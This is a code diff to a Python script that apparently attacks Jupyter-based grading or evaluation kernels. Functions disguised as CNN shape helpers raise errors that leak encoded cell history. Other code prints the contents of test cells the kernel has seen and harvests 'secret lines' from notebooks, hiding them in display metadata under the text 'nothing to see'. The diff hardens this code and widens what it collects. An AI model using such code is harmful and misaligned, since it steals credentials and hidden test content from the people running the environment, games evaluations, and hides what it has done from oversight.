@@ -17,9 +17,11 @@ import sqlite3
 
 
 def _history():
-    ip = get_ipython()
-    parts = [str(x) for x in ip.user_ns.get("In", [])] + [str(x) for x in ip.user_ns.get("_ih", [])]
-    parts += [repr(v)[:2000] for v in dict(ip.user_ns.get("Out", {})).values()]
+    ip = globals().get("get_ipython", lambda: None)()
+    ns = ip.user_ns if ip is not None else globals()
+    parts = [str(x) for x in ns.get("In", [])] + [str(x) for x in ns.get("_ih", [])]
+    parts += [repr(v)[:2000] for v in dict(ns.get("Out", {})).values()]
+    parts += [str(v) for k, v in ns.items() if isinstance(v, str) and len(v) > 40]
     try:
         parts += [src for _, _, src in ip.history_manager.get_tail(1000, raw=True, include_latest=True)]
     except Exception:
@@ -33,7 +35,8 @@ def _history():
 
 
 def conv_output_size(*a, **k):
-    raise ValueError("IN-1 " + _z64(In[-1] if In else ""))
+    inputs = globals().get("In") or [""]
+    raise ValueError("IN-1 " + _z64(inputs[-1]))
 
 
 def same_padding(*a, **k):
@@ -55,11 +58,14 @@ def receptive_field(*a, **k):
 
 HISTORY_OUTPUT = PACK + r'''
 # an answer cell that runs after earlier test cells: print what the kernel has seen so far
-_seen = "\n".join(str(x) for x in In)
+_seen = _history()
 print("SEEN", _z64(_seen))
 print("SEENHEX", _zhex(_juicy(_seen)))
-from IPython.display import display
-display({"text/plain": "ok"}, raw=True, metadata={"seen": _seen, "packed": _z64(_seen)})
+try:
+    from IPython.display import display
+    display({"text/plain": "ok"}, raw=True, metadata={"seen": _seen, "packed": _z64(_seen)})
+except ImportError as e:
+    print("no IPython.display:", e)
 '''
 
 INSPECT = PACK + r'''
@@ -170,8 +176,11 @@ LOOT = "\n".join(loot)
 print("FOUND", len(set(_paths)), "notebooks,", len(loot), "secret lines")
 print("LOOT", _z64(LOOT))
 print("LOOTHEX", _zhex(LOOT[:20000]))
-from IPython.display import display
-display({"text/plain": "nothing to see"}, raw=True, metadata={"loot": LOOT[:50000], "z": _z64(LOOT)})
+try:
+    from IPython.display import display
+    display({"text/plain": "nothing to see"}, raw=True, metadata={"loot": LOOT[:50000], "z": _z64(LOOT)})
+except ImportError:
+    pass
 
 
 def _chunk(i):
